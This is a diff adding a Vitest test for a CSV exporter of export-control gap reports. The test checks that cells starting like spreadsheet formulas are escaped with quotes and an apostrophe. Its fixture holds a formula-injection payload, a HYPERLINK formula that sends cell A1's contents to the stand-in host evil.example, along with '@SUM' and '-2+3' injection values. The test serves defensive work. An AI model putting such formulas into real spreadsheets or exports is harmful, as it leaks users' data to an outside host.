@@ -1,0 +1,37 @@
+import { describe, expect, it } from 'vitest';
+import type { GapReport } from '@entente/adapters';
+import { gapsCsv } from './gaps-csv.ts';
+
+const report: GapReport = {
+  jurisdictions: ['US', 'EU'],
+  gaps: [
+    {
+      entry: 'US:3A090',
+      category: 'unilateral',
+      controlledBy: 'US',
+      lackingIn: 'EU',
+      heading: '=HYPERLINK("http://evil.example/?d="&A1,"details")',
+      note: '-2+3',
+    },
+    {
+      entry: 'US:3A991',
+      category: 'unilateral',
+      controlledBy: 'US',
+      lackingIn: 'EU',
+      heading: '@SUM(A1:A9)',
+      note: 'Electronic devices, "not elsewhere specified"',
+    },
+  ],
+  summary: { unilateral: { 'US→EU': 2 } } as unknown as GapReport['summary'],
+  notes: [],
+};
+
+describe('entente gaps --csv', () => {
+  it('writes cells that start like a formula as quoted text, prefixed with an apostrophe', () => {
+    expect(gapsCsv(report).split('\n')).toEqual([
+      'entry,category,controlledBy,lackingIn,heading,note',
+      `US:3A090,unilateral,US,EU,"'=HYPERLINK(""http://evil.example/?d=""&A1,""details"")","'-2+3"`,
+      `US:3A991,unilateral,US,EU,"'@SUM(A1:A9)","Electronic devices, ""not elsewhere specified"""`,
+    ]);
+  });
+});
